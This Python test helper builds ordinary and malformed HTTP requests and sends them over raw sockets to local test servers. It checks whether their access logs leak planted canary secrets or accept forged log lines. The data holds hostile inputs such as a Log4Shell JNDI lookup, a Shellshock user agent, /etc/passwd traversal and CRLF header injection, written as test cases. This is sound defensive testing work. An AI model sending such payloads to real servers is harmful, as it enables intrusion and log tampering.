# requests.py: what is sent to the real servers: ordinary visits and hostile bytes, over raw sockets.
#
# Each kind of secret has a word of its own, so that a leak says where it came from. CANARIES are words that occur
# nowhere else; MADE_UP reads like a log of a small web site and is what tests/data/access.log was captured with.
# Addresses are loopback or from the documentation ranges; names and hosts are made up (.example, .test).
import base64
import dataclasses
import socket

CLIENT_HEADER = "X-Test-Client"  # both servers take the client's address from it (realip, remoteip)


@dataclasses.dataclass(frozen=True)
class Secrets:
    user: str         # a login that the servers know
    stranger: str     # a login that they do not know
    password: str
    email: str        # without the domain
    token: str        # in a query
    word: str         # an ordinary query value
    referrer: str     # path and query of a referrer
    agent: str        # somewhere in a user agent
    cookie: str
    method: str
    folded: str       # in what tries to begin another log line
    forwarded: str    # in X-Forwarded-For and Forwarded, where only addresses belong


CANARIES = Secrets(user="zquserqz", stranger="zqstrangerqz", password="zqpasswordqz", email="zqmailqz",
                   token="zqtokenqz", word="zqwordqz", referrer="zqreferrerqz", agent="zqagentqz",
                   cookie="zqcookieqz", method="ZQMETHODQZ", folded="zqfoldedqz", forwarded="zqforwardedqz")
MADE_UP = Secrets(user="ada", stranger="grace hopper", password="correct-horse", email="ada.lovelace",
                  token="k3-9QzT-42", word="rheumatism", referrer="reset", agent="toolbar-77",
                  cookie="theme=dark", method="BREW", folded="admin", forwarded="unit-12")

DOMAIN = "mail.example"
CLIENTS = ["203.0.113.77", "198.51.100.23", "192.0.2.146", "2001:db8:85a3::8a2e:370:7334", "2001:db8:a:b::7",
           "203.0.113.201", "2001:db8:1234:5678:211:22ff:fe33:4455"]
DIRECT = ["127.5.6.7", "127.0.0.1", "127.31.200.9", "::1"]  # as source addresses of the connection

AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 13; SM-S901B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.66 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 "
    "Safari/605.1.15",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0",
    "python-requests/2.31.0",
]
PAGES = ["/", "/news/", "/news/2025-09-14/harvest", "/shop/", "/shop/item/48213", "/shop/item/50977", "/about",
         "/contact", "/style.css", "/logo.svg", "/app.js", "/favicon.ico", "/robots.txt", "/missing"]


@dataclasses.dataclass(frozen=True)
class Request:
    name: str
    payload: bytes
    source: str = "127.0.0.1"


def as_bytes(text):
    return text if isinstance(text, bytes) else text.encode("utf-8")


def http(target, *headers, method="GET", version="HTTP/1.1", host="www.site.test", client=None):
    lines = [b" ".join(as_bytes(part) for part in (method, target, version))]
    lines += [b"Host: " + as_bytes(host), b"Connection: close"]
    if client:
        lines.append(as_bytes(f"{CLIENT_HEADER}: {client}"))
    return b"\r\n".join(lines + [as_bytes(header) for header in headers]) + b"\r\n\r\n"


def basic(user, password):
    return "Authorization: Basic " + base64.b64encode(as_bytes(user) + b":" + as_bytes(password)).decode()


def agent(text):
    return b"User-Agent: " + as_bytes(text)


def ordinary(secrets, rounds=1):
    """Visits as a small site sees them: pages with their assets, searches, logins, bots, a proxy or two."""
    made = []
    for n in range(rounds):
        client = CLIENTS[n % len(CLIENTS)]
        source = DIRECT[n % len(DIRECT)]
        browser = agent(AGENTS[n % len(AGENTS)])
        page = PAGES[(n * 5) % len(PAGES)]
        search = "Referer: https://search.example/find?q=" + secrets.referrer
        made += [
            Request("page", http(page, browser, search, client=client)),
            Request("asset", http(PAGES[8 + n % 4], browser, "Referer: http://www.site.test" + page, client=client)),
            Request("direct", http(PAGES[n % len(PAGES)], browser), source),
        ]
        if n % 3 == 0:
            made.append(Request("search", http(
                f"/search?q={secrets.word}&page={n + 1}&lang=de&sort={secrets.word}", browser, client=client)))
        if n % 4 == 0:
            made.append(Request("login", http("/private/", browser, basic(secrets.user, secrets.password),
                                              client=client)))
        if n % 5 == 0:
            made.append(Request("signal", http("/news/", browser, "DNT: 1", "Sec-GPC: 1", client=client)))
            made.append(Request("cookie", http("/shop/", browser, "Cookie: sid=" + secrets.cookie, client=client)))
        if n % 7 == 0:
            made.append(Request("post", http("/contact", browser, "Content-Length: 0", method="POST", client=client)))
    return made


def hostile(secrets):
    s = secrets
    mail = f"{s.email}@{DOMAIN}"
    browser = agent(AGENTS[0])
    fake = ('1.2.3.4 - %s [10/Oct/2025:13:55:36 +0000] "GET /%s HTTP/1.1" 200 1 "-" "%s"'
            % (s.folded, s.folded, s.folded))
    jwt = "eyJhbGciOiJIUzI1NiJ9." + base64.urlsafe_b64encode(s.token.encode() * 2).decode().rstrip("=") + ".A1b2C3d4"
    made = []

    def add(name, payload, source="127.0.0.1"):
        made.append(Request(name, payload, source))

    # Addresses: the connection's own, the one a proxy reports, lists, ports, zones, garbage.
    for source in DIRECT:
        add("source", http("/from", browser), source)
    for client in CLIENTS:
        add("client", http("/", browser, client=client))
    for value in ["203.0.113.77, 10.1.2.3, 2001:db8::dead:beef", "203.0.113.9:51234", "[2001:db8:5::9]:443",
                  "::ffff:203.0.113.5", "2002:cb00:71c3::1", "unknown, 198.51.100.99", s.forwarded + ".isp.example",
                  "fe80::1%eth0, 203.0.113.8", "127.5.6.8", f'203.0.113.6", "{s.forwarded}', "203.0.113.300",
                  ",,,203.0.113.10,,", "host-203-0-113-195.isp.example", "2001:db8:1:2:3:4:5:6:8080"]:
        add("x-forwarded-for", http("/xff", browser, "X-Forwarded-For: " + value))
    add("forwarded", http("/fwd", browser, f'Forwarded: for="[2001:db8:cafe::17]:4711";by=203.0.113.43;{s.forwarded}=1'))

    # Logins: blanks, quotes, mail addresses, brackets, control bytes, nothing at all.
    for user in [s.user, s.stranger, s.user + " " + s.stranger, s.user + '"quoted"', mail, s.user + "\\", s.user + "]",
                 s.stranger + " - [", b"\xff\xfe" + as_bytes(s.user), s.user + "\t" + s.stranger, s.user + "\n" + s.folded,
                 "", "-", "u-aaaaaaaaaaaaaaaa", "x" * 300 + s.user, s.user + " [10/Oct/2025:13:55:36 +0000]"]:
        add("login", http("/private/", browser, basic(user, s.password), client=CLIENTS[0]))
    add("bearer", http("/private/", browser, "Authorization: Bearer " + s.token))

    # Targets: secrets in queries, mails in paths and in four encodings, what is not a target at all.
    once = mail.replace("@", "%40")
    twice = once.replace("%", "%25")
    for target in [
            f"/a?token={s.token}&word={s.word}", f"/a?{s.word}", f"/a?a=1&&b=%22{s.word}%22", f"/a?x=1#{s.word}",
            f"/a?email={mail}", f"/a?email={once}&page=2", f"/a?utm_source={mail}", f"/a?page={s.word}",
            f"/a?lang={s.word}", f"/a?utm_source=news&user%5Bpassword%5D={s.password}", f"/a?{once}={s.word}",
            f"/unsubscribe/{mail}", f"/unsubscribe/{once}", f"/unsubscribe/{twice}",
            f"/unsubscribe/{twice.replace('%', '%25')}", f"/unsubscribe/{''.join('%%%02x' % b for b in mail.encode())}",
            f"/~{s.user}/", f"/@{s.user}/posts", f"/a;jsessionid={s.token}?b=c", f"/t/{jwt}",
            "/u/123e4567-e89b-12d3-a456-426614174000", "/call/+49-170-1234567", "/card/4111111111111111",
            "/h/host-203-0-113-195.isp", "/ip/203.0.113.77", "/ip/2001:db8::1",
            f"http://{s.user}:{s.password}@www.site.test/a?b={s.word}", "http://203.0.113.77/x", "*",
            "//" + s.user + "@site.test/", f'/q?"quoted"={s.word}', f"/back\\slash?x=\\{s.word}",
            f"/a%00b?x=%00{s.word}", "/%ff%fe", f"/a%0d%0aHost:%20x?y={s.folded}", "/%u0041",
            "/" + "a" * 4000 + "?w=" + s.word, "/a?" + "&".join(f"k{i}={s.word}" for i in range(200)),
            "/?" + s.word * 100, f"/a?x={{${{jndi:ldap://{s.word}.example/}}}}", "/..%2f..%2fetc/passwd",
            f"/a?b={s.word}%", f"/a?b=%{s.word}", "/a?=" + s.word, f"/a?__proto__={s.word}", "relative"]:
        add("target", http(target, browser, client=CLIENTS[1]))
    add("blanks in the target", http(f"/a b?c={s.word} d", browser))
    add("raw bytes", http(b"/\xe4\xf6\xfc?x=" + as_bytes(s.word) + b"\xff", browser))
    add("utf-8", http(f"/straße?x=ü{s.word}", browser))
    add("too long", http("/" + "b" * 20000 + "?w=" + s.word, browser))
    add("asterisk", http("*", browser, method="OPTIONS"))
    add("connect", http(f"{s.user}.example:443", browser, method="CONNECT"))

    # Methods and protocols.
    add("method", http("/", browser, method=s.method))
    add("methods", http("/", browser, method="get"))
    add("protocol", http("/a?x=" + s.word, browser, version="HTTP/1.0"))
    add("protocol", http("/a?x=" + s.word, browser, version="HTTP/" + s.word))
    add("no protocol", as_bytes(f"GET /a?x={s.word}\r\n\r\n"))
    add("only a word", as_bytes(s.folded + "\r\n\r\n"))
    add("empty lines", b"\r\n\r\n\r\n\r\n")
    add("http/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")

    # Referrers and user agents.
    for referrer in [f"https://site.example/{s.referrer}?q={s.referrer}#{s.referrer}", s.referrer,
                     f"https://{s.user}:{s.password}@site.example/", "https://203.0.113.77/x", "http://3405803981/",
                     f"javascript:{s.referrer}", f"android-app://com.site/{s.referrer}", f" https://x.example/{s.referrer}",
                     f'https://x.example/"{s.referrer}"', f"https://x.example\\{s.referrer}", mail,
                     "https://[2001:db8::7]:8443/" + s.referrer, "-", f"https://x.example/ {s.referrer}"]:
        add("referrer", http("/ref", browser, "Referer: " + referrer))
    for text in [f"Mozilla/5.0 (X11; Linux x86_64) {s.agent}/1.0 Chrome/120.0.0.0 Safari/537.36", s.agent,
                 f'a"b {s.agent}', s.agent + "\\", "\\", '"', f'x" "{s.agent}', f'\\" {s.agent}', "", "-",
                 f"{s.agent}Bot/1.0 (+mailto:{mail})", f"Chrome/1234{s.agent}", f"curl/8.5.0 {s.agent}",
                 b"\xff\xfe\xfd" + as_bytes(s.agent), "A" * 3000 + s.agent, f"\t{s.agent}\t", f"() {{ :;}}; echo {s.agent}",
                 f"%0d%0a{s.agent}", f"\\x0a{s.agent}", f"\\n{s.agent}", f'" 200 1 "-" "{s.agent}']:
        add("agent", http("/ua", agent(text), client=CLIENTS[2]))
    add("no agent", http("/ua"))

    # One record that would like to be two.
    add("fake line in the agent", http("/", agent(fake)))
    add("fake line in the referrer", http("/", browser, "Referer: " + fake))
    add("fake line in the target", http("/?" + fake.replace(" ", "%20"), browser))
    add("fake line raw in the target", http("/" + fake, browser))
    add("folded header", http("/fold", b"User-Agent: a\r\n " + as_bytes(fake)))
    add("bare LF", as_bytes(f"GET /lf HTTP/1.1\nHost: www.site.test\nConnection: close\nUser-Agent: {s.agent}\n\n"))
    add("bare CR", http("/cr", b"User-Agent: a\rb " + as_bytes(s.folded)))
    add("NUL in a header", http("/nul", b"User-Agent: a\x00" + as_bytes(fake)))
    add("NUL in the target", http(b"/a\x00b?x=" + as_bytes(s.word), browser))
    add("escape codes", http("/esc", agent(f"\x1b[31m{s.agent}\x1b[0m")))
    add("every byte", http("/bytes", b"User-Agent: " + bytes(b for b in range(1, 256) if b not in b"\r\n")))
    add("two requests", http("/one?x=" + s.word).replace(b"Connection: close", b"Connection: keep-alive")
        + http("/two?x=" + s.word))

    # What does not speak HTTP.
    add("TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + as_bytes(s.folded) + b"\x00" * 16 + b"\x13\x01\n")
    add("RDP", b"\x03\x00\x00\x2f\x2a\xe0\x00\x00\x00\x00\x00Cookie: mstshash=" + as_bytes(s.user) + b"\r\n")
    add("SSH", as_bytes(f"SSH-2.0-{s.agent}\r\n\r\n"))
    add("SMTP", as_bytes(f"EHLO {s.folded}.example\r\nMAIL FROM:<{mail}>\r\n\r\n"))
    add("cut short", as_bytes(f"GET /cut?x={s.word} HTTP/1.1\r\nHost: www.site.test\r\nUser-Agent: {s.agent}"))
    add("nothing", b"")

    # Headers that must never reach a log of these formats, or only as what their field allows.
    add("cookie", http("/", browser, f"Cookie: sid={s.cookie}; mail={mail}"))
    add("signals", http("/", browser, "DNT: 1", "Sec-GPC: 1"))
    add("host", http("/", browser, host=f"{s.user}@www.site.test"))
    add("host", http("/", browser, host='www.site.test" "'))
    add("host", http("/", browser, host="203.0.113.77:8080"))
    return made


LAST = "/the-last-request"  # no rule of SPEC 3.8 changes it: when it is through, so is everything before it


def send(request, port, timeout=5.0):
    """Sends the bytes as they are, then reads until the server has closed."""
    is_ipv6 = ":" in request.source
    with socket.socket(socket.AF_INET6 if is_ipv6 else socket.AF_INET, socket.SOCK_STREAM) as connection:
        connection.settimeout(timeout)
        connection.bind((request.source, 0))
        connection.connect(("::1" if is_ipv6 else "127.0.0.1", port))
        try:
            connection.sendall(request.payload)
            connection.shutdown(socket.SHUT_WR)
            while connection.recv(65536):
                pass
        except OSError:
            pass  # a server may slam the door on such guests; what counts is its log


def send_all(requests, port):
    for request in requests:
        send(request, port)
    send(Request("last", http(LAST, agent("curl/8.5.0"))), port)


def has_ipv6():
    try:
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as probe:
            probe.bind(("::1", 0))
        return True
    except OSError:
        return False


def for_this_machine(requests):
    return requests if has_ipv6() else [r for r in requests if ":" not in r.source]
